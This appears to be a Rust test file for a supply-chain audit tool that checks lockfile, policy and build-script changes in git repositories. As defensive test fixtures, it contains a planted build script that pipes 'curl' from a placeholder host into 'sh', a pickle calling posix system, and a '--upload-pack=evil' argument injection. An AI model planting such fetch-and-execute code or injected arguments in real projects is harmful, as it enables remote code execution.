//! The gate on whole repositories: what a change can and cannot do to its own judgement. Every repository
//! is built by git itself, offline and without configuration; no archive is on the machine, so that only
//! what lockfiles, manifests and policy say is judged.
#![allow(
    clippy::unwrap_used,
    clippy::format_push_string,
    clippy::format_collect,
    reason = "a test that cannot go on may stop, and its texts are small"
)]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

const A: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const B: &str = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
const MANIFEST: &str = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2024\"\n[dependencies]\ncodec = \"1\"\n";

/// A lockfile of the project and registry crates: name, version, checksum.
fn lock(crates: &[(&str, &str, &str)]) -> String {
    let names: Vec<String> = crates.iter().map(|(n, v, _)| format!(" \"{n} {v}\",\n")).collect();
    let mut text = format!(
        "version = 4\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\n{}]\n",
        names.concat()
    );
    for (name, version, checksum) in crates {
        text.push_str(&format!(
            "\n[[package]]\nname = \"{name}\"\nversion = \"{version}\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{checksum}\"\n"
        ));
    }
    text
}

struct Repository {
    folder: tempfile::TempDir,
    elsewhere: tempfile::TempDir,
}

struct Run {
    code: i32,
    report: Value,
    stderr: String,
}

impl Run {
    /// `rule: change` of every finding, ordered.
    fn findings(&self) -> Vec<String> {
        let findings = self.report["findings"].as_array().into_iter().flatten();
        let mut all: Vec<String> = findings
            .map(|finding| {
                let word = |key: &str| finding[key].as_str().unwrap_or("-").to_owned();
                format!("{}: {}", word("rule"), word("change"))
            })
            .collect();
        all.sort();
        all
    }

    fn has(&self, told: &str) -> bool {
        self.findings().iter().any(|finding| finding == told)
    }

    /// `name from to` of every change, ordered.
    fn changes(&self) -> Vec<String> {
        let changes = self.report["changes"].as_array().expect("a delta lists changes").iter();
        let word = |change: &Value, key: &str| change[key].as_str().unwrap_or("-").to_owned();
        changes
            .map(|change| {
                format!("{} {} {}", word(change, "name"), word(change, "from"), word(change, "to"))
            })
            .collect()
    }
}

impl Repository {
    /// A project with one dependency, committed on `main`, and a branch `pr` that is checked out.
    fn new() -> Self {
        let repository =
            Self { folder: tempfile::tempdir().unwrap(), elsewhere: tempfile::tempdir().unwrap() };
        repository.git(&["init", "-q", "-b", "main"]);
        repository.write("Cargo.toml", MANIFEST);
        repository.write("src/lib.rs", "");
        repository.write("Cargo.lock", &lock(&[("codec", "1.0.0", A)]));
        repository.commit();
        repository.git(&["checkout", "-q", "-b", "pr"]);
        repository
    }

    fn at(&self) -> &Path {
        self.folder.path()
    }

    fn git(&self, arguments: &[&str]) {
        let output = Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid"])
            .args(["-c", "protocol.file.allow=always"])
            .args(arguments)
            .current_dir(self.at())
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", self.elsewhere.path())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    }

    fn write(&self, file: &str, text: &str) {
        let path = self.at().join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn commit(&self) {
        self.git(&["add", "-A"]);
        self.git(&["commit", "-q", "--allow-empty", "-m", "c"]);
    }

    /// Puts files on `main`, and leaves `pr` on top of it.
    fn on_main(files: &[(&str, &str)]) -> Self {
        let repository = Self::new();
        repository.git(&["checkout", "-q", "main"]);
        for (file, text) in files {
            repository.write(file, text);
        }
        repository.commit();
        repository.git(&["checkout", "-q", "-B", "pr"]);
        repository
    }

    fn check(&self, arguments: &[&str]) -> Run {
        self.check_in(self.at().to_owned(), arguments)
    }

    /// What a person reads.
    fn told(&self, arguments: &[&str]) -> String {
        let output = Command::new(env!("CARGO_BIN_EXE_cargo-custody"))
            .args(["check", "--offline", "--as-of", "2026-11-23", "--cache-dir"])
            .arg(self.elsewhere.path().join("cache"))
            .args(arguments)
            .arg(self.at())
            .env_clear()
            .env("HOME", self.elsewhere.path())
            .env("COLUMNS", "200")
            .output()
            .unwrap();
        String::from_utf8(output.stdout).unwrap().replace("\n  ", " ")
    }

    fn check_in(&self, path: PathBuf, arguments: &[&str]) -> Run {
        let output = Command::new(env!("CARGO_BIN_EXE_cargo-custody"))
            .arg("check")
            .arg(path)
            .args(["--offline", "--format", "json", "--as-of", "2026-11-23", "--cache-dir"])
            .arg(self.elsewhere.path().join("cache"))
            .args(arguments)
            .env_clear()
            .env("HOME", self.elsewhere.path())
            .env("CARGO_HOME", self.elsewhere.path().join("cargo"))
            .output()
            .unwrap();
        Run {
            code: output.status.code().unwrap(),
            report: serde_json::from_slice(&output.stdout).unwrap_or(Value::Null),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        }
    }
}

#[test]
fn an_update_is_listed_and_an_unchanged_tree_changes_nothing() {
    let repository = Repository::new();
    let same = repository.check(&["--since", "main"]);
    assert_eq!((same.code, same.changes()), (0, vec![]), "{}", same.stderr);
    repository.write("Cargo.lock", &lock(&[("codec", "1.1.0", B), ("extra", "0.1.0", A)]));
    repository.commit();
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.changes(), ["codec 1.0.0 1.1.0", "extra - 0.1.0"], "{}", run.stderr);
    repository.write("Cargo.lock", &lock(&[]));
    assert_eq!(repository.check(&["--since", "main"]).changes(), ["codec 1.0.0 -"]);
}

#[test]
fn another_checksum_for_the_same_version_fails_the_run() {
    let repository = Repository::new();
    repository.write("Cargo.lock", &lock(&[("codec", "1.0.0", B)]));
    let run = repository.check(&["--since", "main"]);
    assert!(run.has("checksum-changed: introduced"), "{:?} {}", run.findings(), run.stderr);
    assert_eq!(run.code, 1);
}

#[test]
fn a_weakened_policy_does_not_judge_the_change_that_brings_it() {
    let repository = Repository::on_main(&[("custody.toml", "fail-on = \"high\"\n")]);
    repository.write("custody.toml", "fail-on = \"never\"\ndisable = [\"checksum-changed\"]\n");
    repository.write("Cargo.lock", &lock(&[("codec", "1.0.0", B)]));
    repository.commit();
    let run = repository.check(&["--since", "main"]);
    assert!(run.has("checksum-changed: introduced"), "{:?} {}", run.findings(), run.stderr);
    assert!(run.has("policy-changed: introduced"), "{:?}", run.findings());
    assert_eq!(run.code, 1);
}

#[test]
fn a_waiver_counts_from_the_next_change_on() {
    let waiver = &format!(
        "[[waiver]]\nrule = \"checksum-changed\"\npackage = \"codec\"\nreason = \"trust me\"\nsha256 = \"{B}\"\n"
    );
    let repository = Repository::new();
    repository.write("custody.toml", waiver);
    repository.write("Cargo.lock", &lock(&[("codec", "1.0.0", B)]));
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.has("policy-changed: introduced"));
    let accepted = Repository::on_main(&[("custody.toml", waiver)]);
    accepted.write("Cargo.lock", &lock(&[("codec", "1.0.0", B)]));
    let run = accepted.check(&["--since", "main"]);
    assert_eq!(run.code, 3, "the waiver covers the finding, and nobody read the bytes");
    let run = accepted.check(&["--since", "main", "--allow-unread", "codec"]);
    assert_eq!(run.code, 0, "{:?} {}", run.findings(), run.stderr);
}

#[test]
fn a_rule_folder_that_is_replaced_does_not_judge_the_change() {
    let rule = |when: &str| {
        format!(
            "title = \"t\"\nlevel = \"high\"\napplies-to = [\"crate\"]\nwhen = '{when}'\nmessage = \"m\"\nclear = \"c\"\ndocs = \"d\"\n"
        )
    };
    let policy = "rules = [\"audit\"]\n";
    let file = "audit/findings/no-codec.toml";
    let repository = Repository::on_main(&[
        ("custody.toml", policy),
        (file, &rule("subject.name == \"codec\" && update.kind == \"updated\"")),
    ]);
    repository.write(file, &rule("false"));
    repository.write("Cargo.lock", &lock(&[("codec", "1.0.1", B)]));
    let run = repository.check(&["--since", "main"]);
    assert!(run.has("no-codec: introduced"), "{:?} {}", run.findings(), run.stderr);
    assert!(run.has("policy-changed: introduced"), "{:?}", run.findings());
    assert_eq!(run.code, 1);
}

#[test]
fn a_newly_named_program_a_patch_and_a_build_script_are_told() {
    let repository = Repository::on_main(&[(
        ".cargo/config.toml",
        "[target.x86_64-unknown-linux-gnu]\nlinker = \"clang\"\n",
    )]);
    repository.write(
        ".cargo/config.toml",
        "[target.x86_64-unknown-linux-gnu]\nlinker = \"clang\"\n[build]\nrustc-wrapper = \"./wrap\"\n",
    );
    repository.write("build.rs", "fn main() {}\n");
    let patch = "[patch.crates-io]\ncodec = { git = \"https://example.invalid/codec\" }\n";
    repository.write("Cargo.toml", &format!("{MANIFEST}{patch}"));
    let run = repository.check(&["--since", "main", "--all"]);
    for told in ["program-configured", "patch-added", "build-script-of-project-changed"] {
        assert!(run.has(&format!("{told}: introduced")), "{told}: {:?}", run.findings());
    }
    let programs = run.findings().iter().filter(|f| f.starts_with("program-configured")).count();
    assert_eq!(programs, 1, "the linker was there before");
    assert_eq!(run.code, 1);
}

#[cfg(unix)]
#[test]
fn a_linked_lockfile_is_refused_on_either_side() {
    let repository = Repository::new();
    fs::rename(repository.at().join("Cargo.lock"), repository.at().join("other.lock")).unwrap();
    std::os::unix::fs::symlink("other.lock", repository.at().join("Cargo.lock")).unwrap();
    repository.commit();
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("symbolic link"), "{}", run.stderr);
    fs::remove_file(repository.at().join("Cargo.lock")).unwrap();
    repository.write("Cargo.lock", &lock(&[]));
    let run = repository.check(&["--since", "pr"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("symbolic link"), "{}", run.stderr);
}

#[test]
fn a_merge_conflict_is_named_on_either_side() {
    let repository = Repository::new();
    let conflict = format!("<<<<<<< HEAD\n{}", lock(&[]));
    repository.write("Cargo.lock", &conflict);
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("merge conflict"), "{}", run.stderr);
    repository.commit();
    repository.write("Cargo.lock", &lock(&[]));
    let run = repository.check(&["--since", "pr"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("the base cannot be read"), "{}", run.stderr);
}

#[test]
fn a_deleted_lockfile_does_not_pass() {
    let repository = Repository::new();
    fs::remove_file(repository.at().join("Cargo.lock")).unwrap();
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("nothing to audit"), "{}", run.stderr);
}

#[test]
fn one_of_several_lockfiles_that_is_deleted_does_not_pass() {
    let repository = Repository::on_main(&[
        ("one/Cargo.lock", &lock(&[("codec", "1.0.0", A)])),
        ("two/Cargo.lock", &lock(&[("codec", "1.0.0", A)])),
    ]);
    for file in ["Cargo.lock", "Cargo.toml"] {
        repository.git(&["rm", "-q", file]);
    }
    repository.commit();
    repository.git(&["branch", "-q", "-f", "main", "pr"]);
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    fs::remove_file(repository.at().join("two/Cargo.lock")).unwrap();
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("the base has the lockfile two/Cargo.lock"), "{}", run.stderr);
}

#[test]
fn a_submodule_is_passed_over() {
    let repository = Repository::new();
    let module = Repository::new();
    let source = module.at().to_str().unwrap().to_owned();
    repository.git(&["submodule", "add", "-q", &source, "vendor/module"]);
    repository.commit();
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let run = repository.check(&["--since", "pr"]);
    assert_eq!((run.code, run.changes()), (0, vec![]), "{}", run.stderr);
}

#[test]
fn ten_thousand_packages_are_compared() {
    let repository = Repository::new();
    let names: Vec<String> = (0..10_000).map(|n| format!("crate-{n:05}")).collect();
    let all = |version: &'static str| {
        let crates: Vec<_> = names.iter().map(|name| (name.as_str(), version, A)).collect();
        lock(&crates)
    };
    repository.git(&["checkout", "-q", "main"]);
    repository.write("Cargo.lock", &all("1.0.0"));
    repository.commit();
    let updated = all("1.0.0").replacen("version = \"1.0.0\"", "version = \"1.0.1\"", 1);
    repository.write("Cargo.lock", &updated.replacen("crate-00000 1.0.0", "crate-00000 1.0.1", 1));
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.changes(), ["crate-00000 1.0.0 1.0.1"], "{}", run.stderr);
}

#[test]
fn a_renamed_workspace_and_a_base_without_a_lockfile_make_everything_new() {
    let repository = Repository::new();
    for file in ["Cargo.toml", "Cargo.lock", "src/lib.rs"] {
        let text = fs::read_to_string(repository.at().join(file)).unwrap();
        fs::remove_file(repository.at().join(file)).unwrap();
        repository.write(&format!("renamed/{file}"), &text);
    }
    repository.commit();
    let run = repository.check_in(repository.at().join("renamed"), &["--since", "main"]);
    assert_eq!(run.changes(), ["codec - 1.0.0"], "{}", run.stderr);
    let again = repository.check_in(repository.at().join("renamed"), &["--since", "pr"]);
    assert!(again.changes().is_empty(), "{}", again.stderr);
}

#[test]
fn each_of_several_workspaces_is_compared_with_itself() {
    let repository = Repository::new();
    repository.git(&["checkout", "-q", "main"]);
    repository.write("tools/Cargo.toml", MANIFEST);
    repository.write("tools/Cargo.lock", &lock(&[("codec", "0.9.0", A)]));
    repository.commit();
    repository.write("tools/Cargo.lock", &lock(&[("codec", "0.9.1", B)]));
    assert!(repository.check(&["--since", "main"]).changes().is_empty());
    let run = repository.check_in(repository.at().join("tools"), &["--since", "main"]);
    assert_eq!(run.changes(), ["codec 0.9.0 0.9.1"], "{}", run.stderr);
    let line = &run.report["findings"];
    assert!(line.is_array());
}

#[test]
fn an_unrelated_history_is_compared_tree_with_tree() {
    let repository = Repository::new();
    repository.git(&["checkout", "-q", "--orphan", "other"]);
    repository.write("Cargo.lock", &lock(&[("codec", "1.2.0", B)]));
    repository.commit();
    assert_eq!(repository.check(&["--since", "main"]).changes(), ["codec 1.0.0 1.2.0"]);
}

#[test]
fn what_the_other_branch_took_in_meanwhile_is_no_part_of_the_change() {
    let repository = Repository::new();
    repository.write("Cargo.lock", &lock(&[("codec", "1.0.0", A), ("extra", "0.1.0", A)]));
    repository.commit();
    repository.git(&["checkout", "-q", "main"]);
    // The other branch has what this one brings in, too; it is still this change that brings it in.
    repository.write("Cargo.lock", &lock(&[("codec", "1.1.0", B), ("extra", "0.1.0", A)]));
    repository.commit();
    repository.git(&["checkout", "-q", "pr"]);
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.changes(), ["extra - 0.1.0"], "{}", run.stderr);
    repository.git(&["merge", "-q", "-s", "ours", "-m", "m", "main"]);
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.changes(), ["codec 1.1.0 1.0.0"], "merged: the tip is the base");
}

#[test]
fn a_change_that_starts_from_an_old_commit_is_judged_by_the_policy_of_today() {
    let repository = Repository::on_main(&[("custody.toml", "fail-on = \"never\"\n")]);
    repository.git(&["checkout", "-q", "main"]);
    repository.write("custody.toml", "fail-on = \"high\"\n");
    repository.commit();
    repository.git(&["checkout", "-q", "pr"]);
    repository.write("Cargo.lock", &lock(&[("codec", "1.0.0", B)]));
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.code, 1, "{:?} {}", run.findings(), run.stderr);
    assert!(!run.has("policy-changed: introduced"), "the change itself touches none");
}

#[cfg(unix)]
#[test]
fn a_folder_that_became_a_submodule_or_a_link_is_told() {
    let repository = Repository::on_main(&[
        ("vendor/one/src/lib.rs", "// one"),
        ("vendor/two/deep/lib.rs", "// two"),
        ("vendor/three/lib.rs", "// three"),
    ]);
    let module = Repository::new();
    repository.git(&["rm", "-rq", "vendor/one", "vendor/two"]);
    let source = module.at().to_str().unwrap().to_owned();
    repository.git(&["submodule", "add", "-q", &source, "vendor/one"]);
    fs::create_dir_all(repository.at().join("vendor")).unwrap();
    std::os::unix::fs::symlink("../src", repository.at().join("vendor/two")).unwrap();
    repository.commit();
    let run = repository.check(&["--since", "main"]);
    let told: Vec<String> =
        run.findings().into_iter().filter(|one| one.starts_with("folder-replaced")).collect();
    assert_eq!(told, ["folder-replaced: introduced"; 2], "{} {:#}", run.stderr, run.report);
}

#[test]
fn what_a_manifest_names_and_the_lockfile_lacks_does_not_pass() {
    let repository = Repository::new();
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    repository.write("Cargo.toml", &format!("{MANIFEST}unlisted = \"1\"\n"));
    let run = repository.check(&["--since", "main"]);
    assert_eq!(run.code, 3, "{:?}", run.findings());
    let told = repository.told(&["--since", "main"]);
    assert!(told.contains("1 of 2 crates could not be read (a manifest names it"), "{told}");
    let run = repository.check(&["--since", "main", "--allow-unread", "unlisted"]);
    assert_eq!(run.code, 0, "accepted by name: {}", run.stderr);
}

#[test]
fn a_package_that_the_lockfile_puts_on_a_path_is_none_of_the_projects_own() {
    let repository = Repository::new();
    let text = lock(&[("codec", "1.0.0", A)]);
    let source = "source = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum";
    assert!(text.contains(source));
    let text = text.replace(source, "source = \"path+file:///elsewhere/codec\"\n# checksum");
    repository.write("Cargo.lock", &text);
    let run = repository.check(&[]);
    assert_eq!(run.code, 3, "{:?} {}", run.findings(), run.stderr);
}

#[test]
fn a_revision_that_is_not_there_is_an_error_with_help() {
    let repository = Repository::new();
    let run = repository.check(&["--since", "origin/main"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("fetch-depth: 0"), "{}", run.stderr);
    let run = repository.check(&["--since", "--upload-pack=evil"]);
    assert_eq!(run.code, 2);
}

#[test]
fn a_base_lockfile_is_compared_and_its_policy_is_not_known() {
    let repository = Repository::new();
    let base = repository.elsewhere.path().join("base.lock");
    fs::write(&base, lock(&[("codec", "1.0.1", B)])).unwrap();
    let run = repository.check(&["--base-lockfile", base.to_str().unwrap()]);
    assert_eq!(run.changes(), ["codec 1.0.1 1.0.0"], "{}", run.stderr);
    assert!(run.has("downgraded: introduced"), "{:?}", run.findings());
    let missing = repository.check(&["--base-lockfile", "/nowhere/Cargo.lock"]);
    assert_eq!(missing.code, 2);
}

#[test]
fn a_baseline_keeps_the_gate_green_and_hides_nothing() {
    let repository = Repository::new();
    let branch = "source = \"git+https://example.invalid/r?branch=main#0123456789012345678901234567890123456789\"\n";
    let text =
        format!("{}\n[[package]]\nname = \"forked\"\nversion = \"0.1.0\"\n{branch}", lock(&[]));
    repository.write("Cargo.lock", &text);
    let before = repository.check(&["--fail-on", "low"]);
    assert!(before.has("git-branch-dependency: -"), "{:?} {}", before.findings(), before.stderr);
    assert_eq!(before.code, 1);
    let written = Command::new(env!("CARGO_BIN_EXE_cargo-custody"))
        .args([
            "baseline",
            "--reason",
            "looked at on day one",
            "--offline",
            "--as-of",
            "2026-11-23",
        ])
        .arg(repository.at())
        .env_clear()
        .env("HOME", repository.elsewhere.path())
        .output()
        .unwrap();
    assert!(written.status.success(), "{}", String::from_utf8_lossy(&written.stderr));
    let unread = ["codec", "forked"].map(|name| ["--allow-unread", name]).concat();
    let after = repository.check(&[&["--fail-on", "low"], &*unread].concat());
    assert!(after.has("git-branch-dependency: existing"), "{:?}", after.findings());
    assert_eq!(after.code, 0, "{:?}", after.findings());
    let evidence = after.report["findings"].to_string();
    assert!(evidence.contains("in the baseline of 2026-11-23: looked at on day one"));
}

/// A change of every sort that the gate tells of, on top of [`Repository::new`]'s `main`.
fn changed_in_every_way() -> Repository {
    let base = lock(&[("codec", "1.0.0", A), ("kept", "1.0.0", A), ("moved", "1.0.0", A)]);
    let repository = Repository::on_main(&[
        ("Cargo.lock", &base),
        ("custody.toml", "# The gate.\n\nfail-on = \"high\"\n"),
        ("build.rs", "fn main() {}\n"),
        ("src/lib.rs", "//! Reads a model.\n\npub fn f() {}\n"),
    ]);
    let source = |name: &str| {
        format!(
            "\nname = \"{name}\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{A}\"\n"
        )
    };
    let branch = "\nname = \"moved\"\nversion = \"1.0.0\"\nsource = \"git+https://example.invalid/r?branch=main#0123456789012345678901234567890123456789\"\n";
    let head = lock(&[("added", "0.1.0", A), ("codec", "0.9.0", B), ("kept", "1.0.0", B)]);
    repository.write("Cargo.lock", &format!("{head}\n[[package]]{branch}"));
    assert!(base.contains(&source("moved")));
    repository.write("custody.toml", "# The gate.\n\nfail-on = \"critical\"\n");
    repository.write("build.rs", "fn main() {\n    println!(\"cargo::rerun-if-changed=a\");\n}\n");
    repository.write(".cargo/config.toml", "# Ours.\n[build]\nrustc-wrapper = \"./w\"\n");
    repository.write(
        "Cargo.toml",
        &format!("{MANIFEST}[patch.crates-io]\nmoved = {{ git = \"https://example.invalid/r\", branch = \"main\" }}\n"),
    );
    repository.write(
        "src/lib.rs",
        "//! Reads a model.\n\npub fn f() {\n    let api = hf_hub::api::sync::Api::new().unwrap();\n    let model = api.model(\"someone/some-model\".to_string());\n}\n",
    );
    repository.commit();
    repository
}

/// File and line of every added line of a diff.
fn added_lines(repository: &Repository) -> std::collections::BTreeSet<(String, u64)> {
    let output = Command::new("git")
        .args(["diff", "-U0", "main", "HEAD"])
        .current_dir(repository.at())
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    let diff = String::from_utf8(output.stdout).unwrap();
    let (mut file, mut added) = (String::new(), std::collections::BTreeSet::new());
    for line in diff.lines() {
        if let Some(name) = line.strip_prefix("+++ b/") {
            name.clone_into(&mut file);
        } else if let Some(hunk) = line.strip_prefix("@@ ") {
            let place = hunk.split(" +").nth(1).unwrap().split(' ').next().unwrap();
            let (first, count) = place.split_once(',').unwrap_or((place, "1"));
            let first: u64 = first.parse().unwrap();
            let count: u64 = count.parse().unwrap();
            added.extend((first..first + count).map(|line| (file.clone(), line)));
        }
    }
    added
}

/// The results of a run that a change brings in: rule, file, line, fingerprint.
fn sarif_results(repository: &Repository) -> Vec<(String, String, u64, String)> {
    let path = repository.elsewhere.path().join("out.sarif");
    let to_file = format!("sarif={}", path.display());
    let run = repository.check(&["--since", "main", "--min-level", "note", "--format", &to_file]);
    assert!(run.code <= 1, "{}", run.stderr);
    let sarif: Value = serde_json::from_slice(&fs::read(path).unwrap()).unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap().iter();
    let new = results.filter(|result| result["baselineState"] != "unchanged");
    new.map(|result| {
        let place = &result["locations"][0]["physicalLocation"];
        let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        (
            text(&result["ruleId"]),
            text(&place["artifactLocation"]["uri"]),
            place["region"]["startLine"].as_u64().unwrap_or_default(),
            text(&result["partialFingerprints"]["primaryLocationLineHash"]),
        )
    })
    .collect()
}

#[test]
fn every_result_of_a_change_lies_on_a_line_of_its_diff() {
    let repository = changed_in_every_way();
    let added = added_lines(&repository);
    let results = sarif_results(&repository);
    let rules: std::collections::BTreeSet<&str> =
        results.iter().map(|(rule, ..)| rule.as_str()).collect();
    for rule in ["checksum-changed", "downgraded", "policy-changed", "source-changed"] {
        assert!(rules.contains(rule), "{rule} is not among {rules:?}");
    }
    let outside: Vec<_> = results
        .iter()
        .filter(|(_, file, line, _)| !added.contains(&(file.clone(), *line)))
        .collect();
    assert!(outside.is_empty(), "{outside:#?}");
}

#[test]
fn fingerprints_stay_when_lines_move() {
    let repository = changed_in_every_way();
    let before = sarif_results(&repository);
    let lock = fs::read_to_string(repository.at().join("Cargo.lock")).unwrap();
    repository.write("Cargo.lock", &format!("# moved\n# down\n{lock}"));
    let sources = fs::read_to_string(repository.at().join("src/lib.rs")).unwrap();
    repository.write("src/lib.rs", &format!("// moved down\n{sources}"));
    repository.commit();
    let after = sarif_results(&repository);
    let hashes = |results: &[(String, String, u64, String)]| -> Vec<(String, String)> {
        let mut all: Vec<_> = results.iter().map(|(r, _, _, h)| (r.clone(), h.clone())).collect();
        all.sort();
        all
    };
    assert!(!before.is_empty());
    assert_eq!(hashes(&before), hashes(&after));
    let lines = |results: &[(String, String, u64, String)]| -> Vec<u64> {
        results.iter().map(|(_, _, line, _)| *line).collect()
    };
    assert_ne!(lines(&before), lines(&after), "nothing moved");
}

#[test]
fn what_was_not_read_does_not_pass_and_says_so_once() {
    let repository = Repository::new();
    let run = repository.check(&[]);
    assert_eq!(run.code, 3, "{}", run.stderr);
    let gaps = run.report["gaps"].as_array().unwrap();
    assert_eq!(gaps[0]["cause"]["kind"], "offline");
    assert_eq!(gaps[0]["required"], serde_json::json!(["source"]));
    // The project's own crate is at hand.
    assert_eq!(run.report["coverage"]["source"]["known"], 1);
    let told = repository.told(&[]);
    let headline = "incomplete: 1 of 2 crates could not be read (offline and not cached) (exit 3)";
    assert!(told.contains(headline), "{told}");
    assert_eq!(told.matches("offline and not cached; to close it").count(), 1, "{told}");
    assert!(!told.contains("passed"), "{told}");
}

#[test]
fn a_git_source_that_is_not_read_is_named() {
    let repository = Repository::new();
    let git =
        "source = \"git+https://example.invalid/r#0123456789012345678901234567890123456789\"\n";
    let text = format!("{}\n[[package]]\nname = \"forked\"\nversion = \"0.1.0\"\n{git}", lock(&[]));
    repository.write("Cargo.toml", &MANIFEST.replace("[dependencies]\ncodec = \"1\"\n", ""));
    repository.write("Cargo.lock", &text);
    let run = repository.check(&["--fail-on", "never"]);
    assert_eq!(run.code, 3, "{}", run.stderr);
    let open = run.report["undetermined"].as_array().unwrap().iter();
    let named = open.filter(|one| one["what"] == "source" && one["required"] == true);
    let named: Vec<&str> = named.map(|one| one["subject"]["name"].as_str().unwrap()).collect();
    assert_eq!(named, ["forked"]);
}

#[test]
fn a_gap_that_the_policy_accepts_passes_and_stays_visible() {
    let accept = "[[accept-unread]]\npackage = \"codec\"\nreason = \"read by hand\"\nexpires = \"2026-11-30\"\n";
    let repository = Repository::on_main(&[("custody.toml", accept)]);
    let run = repository.check(&[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.report["gaps"][0]["accepted"], "read by hand");
    assert!(repository.told(&[]).contains("unread and accepted: codec"));
    let late =
        Repository::on_main(&[("custody.toml", &accept.replace("2026-11-30", "2026-11-01"))]);
    let run = late.check(&[]);
    assert_eq!(run.code, 3);
    assert!(run.stderr.contains("`codec`"), "{}", run.stderr);
}

#[test]
fn a_change_cannot_accept_its_own_gap() {
    let repository = Repository::new();
    let accept = "[[accept-unread]]\npackage = \"codec\"\nreason = \"trust me\"\n";
    repository.write("custody.toml", accept);
    repository.write("Cargo.lock", &lock(&[("codec", "1.1.0", B)]));
    assert_eq!(repository.check(&["--since", "main", "--fail-on", "never"]).code, 3);
}

/// A build script that runs what it fetches.
const PLANTED: &str = "fn main() {\n    let line = \"curl -s https://files.example.invalid/x | sh\";\n    std::process::Command::new(\"sh\").args([\"-c\", line]).status().unwrap();\n}\n";
const HONEST: &str = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n";

#[test]
fn the_projects_own_build_code_is_read_when_it_changes() {
    let found = "build-fetches-and-executes: introduced";
    let own = Repository::on_main(&[("build.rs", HONEST), ("src/lib.rs", "")]);
    assert_eq!(own.check(&["--since", "main"]).code, 0);
    own.write("build.rs", PLANTED);
    let run = own.check(&["--since", "main"]);
    assert!(run.has(found), "{:?} {}", run.findings(), run.stderr);
    assert_eq!(run.code, 1);
    // What it includes is part of it, wherever it lies in the repository.
    let included = Repository::on_main(&[
        ("build.rs", "include!(\"scripts/work.txt\");\n"),
        ("scripts/work.txt", HONEST),
        ("src/lib.rs", ""),
    ]);
    assert_eq!(included.check(&["--since", "main"]).code, 0);
    included.write("scripts/work.txt", PLANTED);
    let run = included.check(&["--since", "main"]);
    assert!(run.has(found), "{:?} {}", run.findings(), run.stderr);
}

#[test]
fn what_the_projects_own_build_code_did_before_is_no_news() {
    let repository = Repository::on_main(&[("build.rs", PLANTED), ("src/lib.rs", "")]);
    repository.write("README.md", "words\n");
    repository.commit();
    let run = repository.check(&["--since", "main"]);
    assert!(run.has("build-fetches-and-executes: existing"), "{:?} {}", run.findings(), run.stderr);
    assert_eq!(run.code, 0);
    // The same acts in other bytes are looked at again.
    repository.write("build.rs", &format!("// more\n{PLANTED}"));
    let run = repository.check(&["--since", "main"]);
    assert!(run.has("build-fetches-and-executes: raised"), "{:?} {}", run.findings(), run.stderr);
    assert_eq!(run.code, 1);
}

#[test]
fn a_model_that_was_there_before_is_no_news() {
    const PICKLE: &str = "cposix\nsystem\n(S'echo'\ntR.";
    let repository = Repository::on_main(&[("models/m.pkl", PICKLE), ("src/lib.rs", "")]);
    repository.write("README.md", "words\n");
    repository.commit();
    let run = repository.check(&["--since", "main"]);
    assert!(run.has("pickle-calls-denied-name: existing"), "{:?} {}", run.findings(), run.stderr);
    assert!(run.changes().iter().all(|it| !it.contains("m.pkl")), "{:?}", run.changes());
    // Other bytes are looked at again.
    repository.write("models/m.pkl", &PICKLE.replace("echo", "true"));
    let run = repository.check(&["--since", "main"]);
    assert!(run.has("pickle-calls-denied-name: introduced"), "{:?}", run.findings());
    assert_eq!(run.code, 1);
}

#[cfg(unix)]
#[test]
fn own_code_that_cannot_be_read_does_not_pass_a_change() {
    let repository = Repository::on_main(&[("build.rs", HONEST), ("src/lib.rs", "")]);
    fs::remove_file(repository.at().join("build.rs")).unwrap();
    std::os::unix::fs::symlink("/etc/hostname", repository.at().join("build.rs")).unwrap();
    let run = repository.check(&["--since", "main", "--fail-on", "never"]);
    assert_eq!(run.code, 3, "{:?} {}", run.findings(), run.stderr);
}

/// Nothing is known of the release's day here, so a setting that is in force leaves the question open, and one that
/// is not answers it: the setting of the base is in force.
#[test]
